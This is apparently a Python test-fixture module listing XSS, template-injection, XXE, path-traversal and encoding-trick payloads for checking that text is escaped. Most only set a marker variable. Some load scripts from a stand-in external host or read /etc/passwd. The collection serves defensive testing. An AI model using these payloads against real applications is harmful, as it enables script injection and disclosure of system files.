"""Texts that would like to be programs: one of every shape in which text has been taken for code."""

from __future__ import annotations

TAGS = (
    "<script>window.__ran=1</script>",
    "<ScRiPt src=//elsewhere.example/x.js></sCrIpT>",
    "<img src=x onerror=window.__ran=2>",
    '<img src="x"onerror="window.__ran=3"/>',
    "<image/src/onerror=window.__ran=4>",
    "<iframe srcdoc='<b onclick=window.__ran=5>'></iframe>",
    "<object data=data:text/html,window.__ran=6></object>",
    "<embed src=javascript:window.__ran=7>",
    "<base href=//elsewhere.example/>",
    "<link rel=stylesheet href=//elsewhere.example/x.css>",
    '<meta http-equiv="refresh" content="0;url=//elsewhere.example">',
    "<form action=//elsewhere.example><button>send",
    "<<b>double <b <u>half-open",
)
HANDLERS = (
    "<body onload=window.__ran=8>",
    "<details open ontoggle=window.__ran=9>",
    "<input autofocus onfocus=window.__ran=10>",
    "<video><source onerror=window.__ran=11></video>",
    "<marquee onstart=window.__ran=12>walk",
    "<p style=animation:x onanimationstart=window.__ran=13>",
    "<button popovertarget=p>p</button><i id=p popover onbeforetoggle=window.__ran=14>",
)
BREAK_OUTS = (
    '" onmouseover="window.__ran=15',
    "' onfocus='window.__ran=16' autofocus='",
    '"><script>window.__ran=17</script>',
    "'><img src=x onerror=window.__ran=18>",
    "x onclick=window.__ran=19 y=",
    "` onpointerenter=window.__ran=20 `",
    "</a><a href=javascript:window.__ran=21>here</a>",
    "</option></select><img src=x onerror=window.__ran=22>",
    "</textarea><script>window.__ran=23</script>",
    "</title><script>window.__ran=24</script>",
    "</style><script>window.__ran=25</script>",
    "</script><script>window.__ran=26</script>",
    "<noscript><p title='</noscript><img src=x onerror=window.__ran=27>'>",
)
ADDRESSES = (
    "javascript:window.__ran=28",
    "JaVa\tScRiPt:window.__ran=29",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MzA8L3NjcmlwdD4=",
    "vbscript:msgbox(31)",
    "//elsewhere.example/%2e%2e/",
    "../../etc/passwd?as_of=2025-01-01#content",
    "%3Cscript%3Ewindow.__ran=32%3C/script%3E",
)
DRAWINGS = (
    "<svg onload=window.__ran=33>",
    "<svg><script>window.__ran=34</script></svg>",
    "<svg><animate attributeName=href values=javascript:window.__ran=35 /></svg>",
    "<svg><use href='data:image/svg+xml,x#x'/></svg>",
    "<svg><foreignObject><img src=x onerror=window.__ran=36></foreignObject></svg>",
    "<math><mtext><style><img title='</style><img src=x onerror=window.__ran=37>'>",
    "<![CDATA[<script>window.__ran=38</script>]]>",
    "]]><script>window.__ran=39</script>",
    "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
)
TEMPLATES = (
    "{{ 7 * 7 }}",
    "{{ config.items() }}{% raw %}{# never closed",
    "{{ ''.__class__.__mro__ }}",
    "${window.__ran=40}",
    "`${window.__ran=41}`",
    "<%= 7 * 7 %>",
    "#{7*7} @{7*7} *{7*7}",
    "%(name)s {0} {day} {count!r} %n",
    "$(window.__ran=42)",
    "=HYPERLINK(window.__ran)",
    "@SUM(1+1)*cmd",
)
COMMENTS = ("<!-- never closed", "--><script>window.__ran=43</script><!--", "<!--[if IE]><b><![endif]-->")
STRINGS = (
    "';window.__ran=44;//",
    '";window.__ran=45;//',
    "\\';window.__ran=46;//",
    '"}};window.__ran=47;({"a":{"b":"',
    "\\u003cimg src=x onerror=window.__ran=48\\u003e",
    "line\u2028window.__ran=49//\u2029end",
    "__proto__",
    "constructor.prototype",
    "one\ntwo window.__ran=50",
)
STYLES = (
    "red;background:url(//elsewhere.example/x.png)",
    "expression(window.__ran=51)",
    "}*{display:none}@import '//elsewhere.example/x.css';",
    "<style>*{color:red}</style>",
)
CHARACTERS = (
    "&lt;img src=x onerror=window.__ran=52&gt; &amp;amp; &#60;b&#62;",
    "+ADw-script+AD4-window.__ran=53+ADw-/script+AD4-",
    "\u00c0\u00bcscript\u00c0\u00bewindow.__ran=54",
    "\uff1cscript\uff1ewindow.__ran=55\uff1c/script\uff1e",
    "<scr\u200bipt>window.__ran=56</scr\u200bipt>",
    "\u202egnirts\u202c <b>\u2066bidi\u2069</b>",
    "e\u0301\u0489 \U0001f6a7 \ufeffbom",
    "bell\u0007 escape\u001b[31m delete\u007f",
    "İſK <ſcript>window.__ran=57</ſcript>",
)
MANY_TONGUES = (
    "'\"><svg/onload=window.__ran=58>{{7*7}}${7*7}<!--*/;//</script>",
    "javascript:/*--></title></style></textarea></script><svg onload='/*`/*\"/**/window.__ran=59//'>",
)
PAYLOADS = (
    *TAGS,
    *HANDLERS,
    *BREAK_OUTS,
    *ADDRESSES,
    *DRAWINGS,
    *TEMPLATES,
    *COMMENTS,
    *STRINGS,
    *STYLES,
    *CHARACTERS,
    *MANY_TONGUES,
)


def payload(number: int) -> str:
    """One payload after the other, round and round."""
    return PAYLOADS[number % len(PAYLOADS)]


def bundles(most_characters: int) -> list[str]:
    """All payloads, in as few texts of so many characters as they fit into."""
    found = [""]
    for one in PAYLOADS:
        longer = f"{found[-1]} {one}".strip()
        found[-1:] = [longer] if len(longer) <= most_characters else [found[-1], one]
    return found
